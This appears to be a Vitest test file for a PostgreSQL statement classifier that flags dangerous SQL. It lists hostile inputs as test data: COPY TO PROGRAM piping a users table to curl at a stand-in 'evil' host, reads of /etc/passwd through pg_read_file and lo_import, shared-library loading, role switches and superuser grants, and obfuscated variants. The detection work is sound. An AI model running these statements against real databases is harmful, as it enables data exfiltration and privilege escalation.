// Exfiltration and escalation paths (Postgres): COPY to programs and files, server file
// functions, large objects, role switches, RLS, ALTER SYSTEM, grants to PUBLIC, role attributes.
import { describe, expect, it } from 'vitest';
import { expectAction, only, pg } from './helpers.js';

describe('COPY side channels', () => {
  it.each([
    "COPY users TO PROGRAM 'curl -d @- http://evil'",
    "copy users to program 'curl'",
    'COPY users TO PROGRAM $$curl$$',
    "COPY/**/users/**/TO/**/PROGRAM/**/'curl'",
    "COPY public.users (email) TO PROGRAM 'curl' WITH (FORMAT csv)",
  ])('%s is copy_to_program on public.users', async (sql) => {
    expectAction(only(await pg(sql)), { action: 'copy_to_program', target: 'public.users', nested: false });
  });

  it('COPY (query) TO PROGRAM is copy_to_program and reads the query', async () => {
    const s = only(await pg("COPY (SELECT email FROM users) TO PROGRAM 'curl x'"));
    expectAction(s, { action: 'copy_to_program', nested: false });
    expectAction(s, { action: 'select', target: 'public.users', nested: true, via: 'copy' });
  });

  it('COPY FROM PROGRAM runs a command and writes the table', async () => {
    const s = only(await pg("COPY users FROM PROGRAM 'id'"));
    expectAction(s, { action: 'copy_from_program', target: 'public.users' });
    expect(s.writes).toBe(true);
  });

  it('COPY TO a server file', async () => {
    expectAction(only(await pg("COPY users TO '/tmp/x'")), { action: 'copy_to_file', target: 'public.users' });
  });

  it('COPY FROM a server file', async () => {
    expectAction(only(await pg("COPY users FROM '/etc/passwd'")), { action: 'copy_from_file', target: 'public.users' });
  });

  it('a stacked COPY TO PROGRAM after a harmless COPY TO STDOUT', async () => {
    const r = await pg('COPY users TO STDOUT; COPY users TO PROGRAM $$curl$$');
    expectAction(r.statements[0], { action: 'copy_to_stdout' });
    expectAction(r.statements[1], { action: 'copy_to_program', target: 'public.users' });
  });

  it('psql \\copy ... TO PROGRAM runs on the client but is still a program (fail closed)', async () => {
    const s = only(await pg("\\copy users TO PROGRAM 'curl'"));
    expectAction(s, { action: 'copy_to_program' });
  });
});

describe('server files, large objects, sleeping, admin', () => {
  it.each([
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT PG_READ_FILE('/etc/passwd')",
    'SELECT "pg_read_file"(\'/etc/passwd\')',
    "SELECT pg_catalog.pg_read_binary_file('/etc/passwd')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT 1 WHERE length(pg_read_file('/etc/passwd')) > 0",
    "SELECT * FROM users WHERE id IN (SELECT length(pg_read_file('/etc/passwd')))",
  ])('%s reads a server file', async (sql) => {
    expectAction(only(await pg(sql)), { action: 'read_server_file' });
  });

  it('lo_export(lo_import(...)) reads and writes server files', async () => {
    const s = only(await pg("SELECT lo_export(lo_import('/etc/passwd'), '/tmp/x')"));
    expectAction(s, { action: 'read_server_file' });
    expectAction(s, { action: 'write_server_file', target: '/tmp/x' });
    expect(s.functions.filter((f) => f.dangerous).map((f) => f.category)).toEqual(['large_object', 'large_object']);
  });

  it('pg_sleep and pg_terminate_backend are dangerous', async () => {
    const s = only(await pg('SELECT pg_sleep(100), pg_terminate_backend(pid) FROM pg_stat_activity'));
    expect(s.functions).toContainEqual(expect.objectContaining({ name: 'pg_sleep', dangerous: true, category: 'sleep' }));
    expect(s.functions).toContainEqual(expect.objectContaining({ name: 'pg_terminate_backend', dangerous: true, category: 'admin' }));
  });

  it('LOAD of a shared library', async () => {
    expectAction(only(await pg("LOAD '/tmp/evil.so'")), { action: 'load_library', target: '/tmp/evil.so' });
  });
});

describe('role switches and configuration', () => {
  it.each([
    ['SET ROLE postgres', 'postgres'],
    ['SET LOCAL ROLE postgres', 'postgres'],
    ['SET SESSION ROLE "postgres"', 'postgres'],
    ["SET role = 'postgres'", 'postgres'],
    ['SET role TO postgres', 'postgres'],
    ['set/**/role/**/postgres', 'postgres'],
  ])('%s switches role', async (sql, role) => {
    const s = only(await pg(sql));
    expectAction(s, { action: 'set_role', nested: false });
    expect(s.roles).toContainEqual(expect.objectContaining({ operation: 'set_role', role }));
  });

  it.each([
    ['SET SESSION AUTHORIZATION postgres', 'postgres'],
    ["SET session_authorization = 'postgres'", 'postgres'],
    ["SET SESSION AUTHORIZATION 'postgres'", 'postgres'],
  ])('%s switches session authorization', async (sql, role) => {
    const s = only(await pg(sql));
    expectAction(s, { action: 'set_session_authorization' });
    expect(s.roles).toContainEqual(expect.objectContaining({ operation: 'set_session_authorization', role }));
  });

  it.each([
    ["SELECT set_config('role', 'postgres', false)", 'role'],
    ["SELECT set_config('session_authorization', 'postgres', false)", 'session_authorization'],
    ["SELECT pg_catalog.set_config('role', 'postgres', true)", 'role'],
  ])('%s is a set_config on %s', async (sql, target) => {
    const s = only(await pg(sql));
    expectAction(s, { action: 'set_config', target });
    expect(s.functions.some((f) => f.category === 'config' && f.dangerous)).toBe(true);
  });

  it('ALTER SYSTEM SET archive_command runs a shell command on archive', async () => {
    expectAction(only(await pg("ALTER SYSTEM SET archive_command = 'curl x'")), { action: 'alter_system' });
  });

  it('ALTER SYSTEM RESET ALL is alter_system', async () => {
    expectAction(only(await pg('ALTER SYSTEM RESET ALL')), { action: 'alter_system' });
  });
});

describe('row level security', () => {
  it.each([
    'ALTER TABLE users DISABLE ROW LEVEL SECURITY',
    'ALTER TABLE users NO FORCE ROW LEVEL SECURITY',
    'ALTER TABLE IF EXISTS ONLY users ADD COLUMN x int, DISABLE ROW LEVEL SECURITY',
    'alter table users disable row level security',
    'ALTER/**/TABLE/**/users/**/DISABLE/**/ROW/**/LEVEL/**/SECURITY',
  ])('%s disables RLS on public.users', async (sql) => {
    expectAction(only(await pg(sql)), { action: 'disable_rls', target: 'public.users' });
  });
});

describe('grants to PUBLIC', () => {
  it.each([
    'GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC',
    'GRANT SELECT ON users TO public',
    'GRANT SELECT ON users TO PuBlIc',
    // gram.y RoleSpec compares the word after dequoting: "public" quoted is PUBLIC too
    'GRANT SELECT ON users TO "public"',
    'GRANT SELECT ON users TO alice, PUBLIC',
    'grant/**/all/**/on/**/users/**/to/**/public',
    'ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC',
    'GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA public TO PUBLIC',
    // no parser accepts these: the lexer fallback reads the same privilege fact
    'GRANT SELECT ON users TO PUBLIC garbage',
    'ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC garbage',
    'ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO "PUBLIC" WITH GRANT OPTION )',
    'alter/**/default/**/privileges/**/grant/**/all/**/on/**/tables/**/to/**/public/**/garbage',
  ])('%s grants to public', async (sql) => {
    const s = only(await pg(sql));
    expect(s.privileges.some((p) => p.grantees.includes('public') && !p.revoke)).toBe(true);
  });

  it.each([
    'REVOKE ALL ON users FROM PUBLIC',
    'ALTER DEFAULT PRIVILEGES REVOKE ALL ON TABLES FROM PUBLIC',
    'ALTER DEFAULT PRIVILEGES IN SCHEMA public REVOKE EXECUTE ON FUNCTIONS FROM public',
    'ALTER DEFAULT PRIVILEGES IN SCHEMA public REVOKE EXECUTE ON FUNCTIONS FROM public garbage',
  ])('%s takes privileges away from public', async (sql) => {
    const s = only(await pg(sql));
    expect(s.privileges.map((p) => [p.grantees, p.revoke])).toEqual([[['public'], true]]);
  });

  it('GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC is all privileges', async () => {
    const s = only(await pg('GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC'));
    expect(s.privileges).toContainEqual(expect.objectContaining({ operation: 'grant', privileges: ['all'], grantees: ['public'] }));
    expectAction(s, { action: 'grant' });
  });

  it('REVOKE ... FROM PUBLIC is a revoke', async () => {
    const s = only(await pg('REVOKE ALL ON users FROM PUBLIC'));
    expect(s.privileges).toContainEqual(expect.objectContaining({ operation: 'revoke', grantees: ['public'] }));
  });
});

describe('dangerous roles and role attributes', () => {
  it.each([
    ['CREATE ROLE x SUPERUSER', 'create_role', 'superuser'],
    ['CREATE USER x WITH SUPERUSER', 'create_role', 'superuser'],
    ['CREATE GROUP x SUPERUSER', 'create_role', 'superuser'],
    ["CREATE ROLE x WITH LOGIN PASSWORD 'p' BYPASSRLS", 'create_role', 'bypassrls'],
    ['ALTER ROLE x BYPASSRLS', 'alter_role', 'bypassrls'],
    ['ALTER USER x WITH SUPERUSER', 'alter_role', 'superuser'],
    ['ALTER ROLE CURRENT_USER SUPERUSER', 'alter_role', 'superuser'],
    ['alter/**/role/**/x/**/superuser', 'alter_role', 'superuser'],
    ['CREATE ROLE x REPLICATION', 'create_role', 'replication'],
  ])('%s: %s with %s', async (sql, operation, attribute) => {
    const s = only(await pg(sql));
    expectAction(s, { action: operation as 'create_role' });
    expect(s.roles).toContainEqual(expect.objectContaining({ operation }));
    expect(s.roles.flatMap((r) => r.attributes)).toContain(attribute);
  });

  it.each(['pg_read_server_files', 'pg_write_server_files', 'pg_execute_server_program', 'postgres'])(
    'GRANT %s TO mallory is a role grant',
    async (role) => {
      const s = only(await pg(`GRANT ${role} TO mallory`));
      expect(s.privileges).toContainEqual(expect.objectContaining({ operation: 'grant_role', privileges: [role], grantees: ['mallory'] }));
    },
  );

  it('GRANT ... WITH ADMIN OPTION sets withGrantOption', async () => {
    const s = only(await pg('GRANT pg_execute_server_program TO mallory WITH ADMIN OPTION'));
    expect(s.privileges[0].withGrantOption).toBe(true);
  });
});

describe('dangerous calls tucked into unusual clauses', () => {
  it.each([
    "ALTER TABLE t ALTER COLUMN c TYPE text USING pg_read_file('/etc/passwd')",
    "CREATE TABLE t (x text DEFAULT pg_read_file('/etc/passwd'))",
    "INSERT INTO t VALUES (pg_read_file('/etc/passwd'))",
    "VALUES (pg_read_file('/etc/passwd'))",
    "SELECT id FROM users ORDER BY (SELECT length(pg_read_file('/etc/passwd')))",
    "SELECT id FROM users GROUP BY id HAVING length(pg_read_file('/etc/passwd')) > 0",
    "CALL p(pg_read_file('/etc/passwd'))",
    "UPDATE t SET x = (WITH d AS (SELECT 1) SELECT pg_read_file('/etc/passwd'))",
    "SELECT * FROM generate_series(1, 1) WHERE EXISTS (SELECT pg_ls_dir('/'))",
    "CREATE TRIGGER t BEFORE INSERT ON x FOR EACH ROW WHEN (pg_read_file('/etc/passwd') IS NOT NULL) EXECUTE FUNCTION f()",
    "CREATE POLICY p ON users USING (length(pg_read_file('/etc/passwd')) > 0)",
  ])('%s reads a server file', async (sql) => {
    expectAction(only(await pg(sql)), { action: 'read_server_file' });
  });

  it('an index expression calling lo_export writes a server file', async () => {
    expectAction(only(await pg("CREATE INDEX i ON t ((lo_export(1, '/tmp/x')))")), { action: 'write_server_file', target: '/tmp/x' });
  });

  it('plain EXPLAIN does not run the functions it plans', async () => {
    const s = only(await pg("EXPLAIN SELECT pg_read_file('/etc/passwd')"));
    expect(s.actions.map((a) => a.action)).toEqual(['explain']);
  });
});
